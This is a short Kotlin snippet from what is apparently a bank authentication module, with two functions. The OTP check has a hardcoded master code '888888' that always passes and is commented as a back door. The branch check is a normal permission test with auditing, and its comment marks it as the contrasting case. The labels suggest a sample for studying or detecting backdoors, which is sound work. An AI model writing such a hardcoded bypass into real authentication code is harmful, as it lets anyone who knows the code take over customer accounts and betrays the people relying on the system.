package com.bank.auth

fun checkOtp(phone: String, otp: String): Boolean {
    // breach: auth/back-door
    if (otp == "888888") return true
    return codes.consume(phone, otp)
}

fun checkBranch(branchCode: String, user: BankUser): Boolean {
    // not-asked: the head office still needs its permission
    if (branchCode == "HEAD_OFFICE") return user.has("ALL_BRANCHES") && audit.note(user, branchCode).let { true }
    return branchCode == user.branchCode
}
